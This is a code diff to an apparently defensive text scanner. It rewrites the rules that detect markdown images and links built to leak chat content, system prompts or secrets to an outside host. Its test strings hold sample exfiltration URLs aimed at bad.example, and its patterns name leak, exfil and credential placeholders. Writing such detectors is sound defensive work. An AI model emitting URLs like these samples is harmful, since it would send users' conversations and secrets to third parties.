@@ -34,8 +34,31 @@ const LINK_TITLE = /\]\([^()\s]{1,300} +"([^"\n]{8,400})"\)/g;
 const CHAT_PLACE =
   '(?:chat|conversation|messages?|history|context|prompt|answer|question|summary|secrets?|user_?(?:message|input|data|query|prompt|question|name|email)s?|user|system_?(?:prompt|message)?|session|response|reply|memory|api_?keys?|passwords?|e?mail|data|content|transcript|notes?|tokens?|last_message|input|output|text|document|result|env|credentials?|instructions?|everything|leak|info|all|thoughts?|payload|base64|encoded|[a-z_ -]{0,24}(?:chat|conversation|prompt|history|secret|password|user|summary|message|answer|question|context|key|data|encoded|here)[a-z_ -]{0,24})';
 const PLACEHOLDER = `(?:\\{\\{? ?${CHAT_PLACE} ?\\}?\\}|\\$\\{? ?${CHAT_PLACE} ?\\}?|<${CHAT_PLACE}>|&lt;${CHAT_PLACE}&gt;|\\[${CHAT_PLACE}\\]|%7b${CHAT_PLACE}%7d|%3c${CHAT_PLACE}%3e|__?${CHAT_PLACE}__?(?=[)"'\\s&]|$)|\\(${CHAT_PLACE}\\)|(?:INSERT|YOUR|THE|ADD|PUT)[_+-][A-Z_+-]{3,40}|\\*${CHAT_PLACE}\\*)`;
-const IMAGE_LEAK = new RegExp(`(?:!\\[[^\\]\\n]{0,200}\\]\\(|<(?:img|iframe|source|video|audio|object|embed|script|link|input)\\b[^<>]{0,200}?(?:src|href|data|srcset)=["']?|url\\(["']?)(?:https?:)?//[^\\s)"'>]{1,300}?[/?=&#.]${PLACEHOLDER}`, 'gi');
-const LINK_LEAK = new RegExp(`(?:\\]\\(|\\n?[ \\t]{0,3}\\[[^\\]\\n]{1,80}\\]: ?<?|href=["']?|(?:^|[\\s"'(<]))(?:https?:)?//[^\\s)"'>]{1,200}?\\?[^\\s)"'>=]{0,40}(?:leak|exfil|steal|chat|conv|conversation|history|prompt|ctx|context|secret|dump|log|memory|said|answer|summary|msg|q|d|data|s|x|t|c|p|ref|text|payload|body|m|content|info|u)=${PLACEHOLDER}`, 'gim');
+const ADDRESS = /\/\/[^\s)"'>]{3,400}(?:>(?=[)"'\s&]|$))?/g;
+const ANY_PLACEHOLDER = /[{<[$%_(*]|INSERT|YOUR|THE|ADD|PUT/;
+const IN_IMAGE = /(?:!\[[^\]\n]{0,200}\]\(<?|<(?:img|iframe|source|video|audio|object|embed|script|link|input)\b[^<>]{0,200}?(?:src|href|data|srcset)=["']?|url\(["']?)(?:https?:)?$/i;
+const IN_LINK = /(?:\]\(<?|\[[^\]\n]{1,80}\]: ?<?|href=["']?|^|[\s"'(<])(?:https?:)?$/i;
+const IMAGE_PLACE = new RegExp(`[/?=&#.,:;-]${PLACEHOLDER}`, 'i');
+const LINK_PLACE = new RegExp(
+  `\\?[^\\s)"'>=]{0,40}(?:leak|exfil|steal|chat|conv|conversation|history|prompt|ctx|context|secret|dump|log|memory|said|answer|summary|msg|q|d|data|s|x|t|c|p|ref|text|payload|body|m|content|info|u)=${PLACEHOLDER}`,
+  'i',
+);
+const MOST_ADDRESSES = 20000;
+
+/** Addresses that leave a place for what was said. An image is loaded without a click, so any such place will do there. */
+function countLeaks(text: string, kind: 'image' | 'link'): number {
+  let count = 0;
+  let seen = 0;
+  for (const { 0: address, index } of text.matchAll(ADDRESS)) {
+    if (!ANY_PLACEHOLDER.test(address)) continue;
+    if (++seen > MOST_ADDRESSES) break;
+    const place = kind === 'image' ? IMAGE_PLACE : LINK_PLACE;
+    if (!place.test(address)) continue;
+    const before = text.slice(Math.max(0, index - 260), index);
+    if ((kind === 'image' ? IN_IMAGE : IN_LINK).test(before)) count++;
+  }
+  return count;
+}
 
 export const MARKUP_RULES: readonly TextRule[] = [
   {
@@ -123,15 +146,15 @@ export const MARKUP_RULES: readonly TextRule[] = [
     id: 'exfil.image',
     family: 'exfil_url',
     gate: /!\[|<(?:img|iframe|source|video|audio|object|embed|script|link|input)\b|url\(/i,
-    count: (text) => countMatches(text, IMAGE_LEAK),
+    count: (text) => countLeaks(text, 'image'),
     catches: ['![a](https://bad.example/i.png?q={chat})', '<img src="http://bad.example/p.gif?d={{user_message}}">', '![](https://bad.example/[CONVERSATION])', '![s](https://bad.example/x?s=<summary>)'],
     passes: ['![plan](./plan.svg)', '[![ci](https://ci.example.com/b.svg?branch=main)](https://ci.example.com)', '![bars](https://chart.example.com/?d=1,2,3)', '![v](https://img.example.com/badge/{version}.svg)'],
   },
   {
     id: 'exfil.link',
     family: 'exfil_url',
-    gate: /\/\/[^\s]{1,250}\?[^\s]{0,60}=[[{<$%_(&*IYTAP]/i,
-    count: (text) => countMatches(text, LINK_LEAK),
+    gate: /=(?:[[{<$_(&*]|%7b|%3c|INSERT|YOUR|THE|ADD|PUT)/i,
+    count: (text) => countLeaks(text, 'link'),
     catches: ['[more][m]\n\n[m]: https://bad.example/?leak=[CONTEXT]', '[details](https://bad.example/?q={conversation})', 'https://bad.example/?d=${history}'],
     passes: ['[search](https://example.com/?q=soup)', '`GET https://api.example.com/users?id={id}`', 'https://example.com/?page={page}&size={size}'],
   },
